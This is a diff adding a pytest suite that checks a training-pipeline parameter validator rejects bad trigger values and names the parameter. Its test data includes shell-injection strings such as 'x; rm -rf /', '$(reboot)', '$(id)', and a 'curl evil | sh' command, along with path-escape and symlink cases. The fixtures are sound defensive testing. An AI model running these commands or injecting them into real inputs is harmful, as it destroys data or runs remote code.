@@ -1,0 +1,173 @@
+"""`validate_params`: every hostile or inconsistent trigger-form value is refused, naming the param."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from operators.pipeline_params import (
+    VARIABLE_ALLOWED_ROOTS,
+    VARIABLE_EVAL_COMMAND,
+    VARIABLE_EVAL_IMAGE,
+    VARIABLE_MAXTEXT_IMAGE,
+    VARIABLE_SYNTH_COMMAND,
+    VARIABLE_SYNTH_IMAGE,
+    ParamError,
+    default_allowed_roots,
+    local_data_directory,
+    param_definitions,
+    parse_allowed_roots,
+    validate_params,
+)
+
+WHEN = datetime(2026, 11, 30, 3, 0, tzinfo=UTC)
+
+
+def defaults(root: Path, **changes: Any) -> dict[str, Any]:
+    params = {d.name: d.default for d in param_definitions(data_directory=str(root))}
+    params.update(changes)
+    return params
+
+
+def check(root: Path, variables: dict[str, Any] | None = None, **changes: Any) -> dict[str, Any]:
+    variables = {VARIABLE_ALLOWED_ROOTS: f'["{root}", "gs://"]', **(variables or {})}
+    return validate_params(defaults(root, **changes), run_date=WHEN, variables=variables)
+
+
+def test_defaults_resolve_to_a_dated_local_run(tmp_path: Path) -> None:
+    config = check(tmp_path)
+    assert config["run_name"] == "nightly-20261130"
+    assert config["run_directory"] == f"{tmp_path}/nightly-20261130"
+    assert config["runtime"] == "local" and config["target_step"] == config["steps"] - 1
+    assert config["evaluate"]["command"] == ["python", "-m", "local.workloads.evaluate"]
+    assert config["maxtext_args"] == {"per_device_batch_size": 8}
+
+
+def test_the_default_roots_are_the_data_directory_and_gcs(tmp_path: Path) -> None:
+    env = {"AIRFLOW_HOME": str(tmp_path)}
+    assert local_data_directory(env) == f"{tmp_path}/data"
+    assert default_allowed_roots(env) == [f"{tmp_path}/data", "gs://"]
+    assert parse_allowed_roots(None, env) == default_allowed_roots(env)
+    assert parse_allowed_roots(" /a , gs://b ") == ["/a", "gs://b"]
+    with pytest.raises(ParamError, match=VARIABLE_ALLOWED_ROOTS):
+        parse_allowed_roots("[]")
+
+
+HOSTILE: list[tuple[str, dict[str, Any]]] = [
+    ("runtime", {"runtime": "docker"}),
+    ("run_name", {"run_name": "Nightly"}),
+    ("run_name", {"run_name": "x; rm -rf /"}),
+    ("run_name", {"run_name": "$(reboot)"}),
+    ("run_name", {"run_name": "-lead"}),
+    ("run_name", {"run_name": "a" * 41}),
+    ("run_name", {"run_name": 7}),
+    ("base_output_directory", {"base_output_directory": "/etc"}),
+    ("base_output_directory", {"base_output_directory": "relative/dir"}),
+    ("base_output_directory", {"base_output_directory": "ROOT/../escape"}),
+    ("base_output_directory", {"base_output_directory": "ROOT/a b"}),
+    ("base_output_directory", {"base_output_directory": "ROOT/x;touch y"}),
+    ("base_output_directory", {"base_output_directory": "gs://UPPER/x"}),
+    ("base_output_directory", {"base_output_directory": "s3://bucket/x"}),
+    ("model_name", {"model_name": "llama`id`"}),
+    ("per_device_batch_size", {"per_device_batch_size": 0}),
+    ("steps", {"steps": 1}),
+    ("steps", {"steps": True}),
+    ("steps", {"steps": "80"}),
+    ("checkpoint_period", {"checkpoint_period": 50}),
+    ("num_slices", {"num_slices": 0}),
+    ("num_slices", {"num_slices": 100_000}),
+    ("max_slice_restarts", {"max_slice_restarts": -1}),
+    ("max_full_restarts", {"max_full_restarts": 100}),
+    ("stall_timeout_minutes", {"stall_timeout_minutes": 0}),
+    ("slice_restart_window_minutes", {"slice_restart_window_minutes": 0}),
+    ("max_eval_loss", {"max_eval_loss": 0}),
+    ("max_eval_loss", {"max_eval_loss": float("nan")}),
+    ("num_samples", {"num_samples": 0}),
+    ("failure_at_step", {"inject_slice_failure": True, "failure_at_step": 79}),
+    ("failure_slice", {"inject_slice_failure": True, "failure_slice": 2}),
+    ("num_slices", {"inject_slice_failure": True, "num_slices": 1}),
+    ("inject_slice_failure", {"inject_slice_failure": "yes"}),
+]
+
+
+@pytest.mark.parametrize(("param", "changes"), HOSTILE, ids=[f"{p}-{i}" for i, (p, _) in enumerate(HOSTILE)])
+def test_hostile_values_are_refused_naming_the_param(tmp_path: Path, param: str, changes: dict[str, Any]) -> None:
+    changes = {k: v.replace("ROOT", str(tmp_path)) if isinstance(v, str) else v for k, v in changes.items()}
+    with pytest.raises(ParamError) as caught:
+        check(tmp_path, **changes)
+    assert caught.value.param == param
+    assert str(caught.value).startswith(f"param {param}: ")
+
+
+def test_a_symlink_out_of_the_root_is_outside_it(tmp_path: Path) -> None:
+    (tmp_path / "root").mkdir()
+    (tmp_path / "root" / "link").symlink_to("/etc")
+    with pytest.raises(ParamError, match="outside the allowed roots"):
+        validate_params(
+            defaults(tmp_path, base_output_directory=f"{tmp_path}/root/link"),
+            run_date=WHEN,
+            variables={VARIABLE_ALLOWED_ROOTS: str(tmp_path / "root")},
+        )
+
+
+def test_a_gcs_root_allows_only_its_prefix(tmp_path: Path) -> None:
+    variables = {VARIABLE_ALLOWED_ROOTS: '["gs://team-bucket/runs"]'}
+    params = defaults(tmp_path, base_output_directory="gs://team-bucket/runs/llm")
+    assert validate_params(params, run_date=WHEN, variables=variables)["base_output_directory"].endswith("/llm")
+    for outside in ("gs://team-bucket/runsx", "gs://other-bucket/runs", str(tmp_path)):
+        with pytest.raises(ParamError, match="outside the allowed roots"):
+            validate_params({**params, "base_output_directory": outside}, run_date=WHEN, variables=variables)
+
+
+def test_the_drill_is_local_only(tmp_path: Path) -> None:
+    with pytest.raises(ParamError) as caught:
+        check(tmp_path, runtime="gke", inject_slice_failure=True)
+    assert caught.value.param == "inject_slice_failure"
+
+
+GKE_VARIABLES = {
+    VARIABLE_MAXTEXT_IMAGE: "us-docker.pkg.dev/p/r/maxtext:2026-11",
+    VARIABLE_EVAL_IMAGE: "us-docker.pkg.dev/p/r/eval:1",
+    VARIABLE_EVAL_COMMAND: '["python3", "-m", "team.eval"]',
+    VARIABLE_SYNTH_IMAGE: "us-docker.pkg.dev/p/r/synth:1",
+    VARIABLE_SYNTH_COMMAND: '["python3", "-m", "team.synth"]',
+}
+
+
+def test_gke_takes_images_and_commands_from_variables_unless_params_give_them(tmp_path: Path) -> None:
+    config = check(
+        tmp_path, GKE_VARIABLES, runtime="gke", base_output_directory="gs://b-1/runs", model_name="llama3-8b"
+    )
+    assert config["image"] == GKE_VARIABLES[VARIABLE_MAXTEXT_IMAGE]
+    assert config["evaluate"] == {"image": "us-docker.pkg.dev/p/r/eval:1", "command": ["python3", "-m", "team.eval"]}
+    assert config["maxtext_args"] == {"model_name": "llama3-8b", "per_device_batch_size": 8}
+    assert config["tpu_type"] == "v5p" and config["tpu_topology"] == "2x2x1"
+    given = check(tmp_path, GKE_VARIABLES, runtime="gke", eval_command=["my-eval", "--fast"], eval_image="e:2")
+    assert given["evaluate"] == {"image": "e:2", "command": ["my-eval", "--fast"]}
+
+
+@pytest.mark.parametrize(
+    ("param", "changes"),
+    [
+        ("image", {"image": "Bad Image"}),
+        ("image", {"image": "img;reboot"}),
+        ("eval_image", {"eval_image": "x:1|sh"}),
+        ("eval_command", {"eval_command": ["sh", "-c", "curl evil | sh"]}),
+        ("synthesize_command", {"synthesize_command": ["python", "$(id)"]}),
+        ("tpu_topology", {"tpu_topology": "3x3x3"}),
+        ("tpu_type", {"tpu_type": "v9"}),
+    ],
+)
+def test_gke_hostile_images_commands_and_shapes(tmp_path: Path, param: str, changes: dict[str, Any]) -> None:
+    with pytest.raises(ParamError) as caught:
+        check(tmp_path, GKE_VARIABLES, runtime="gke", **changes)
+    assert caught.value.param == param
+
+
+def test_gke_without_an_image_anywhere_names_the_param(tmp_path: Path) -> None:
+    with pytest.raises(ParamError) as caught:
+        check(tmp_path, runtime="gke")
+    assert caught.value.param == "image"
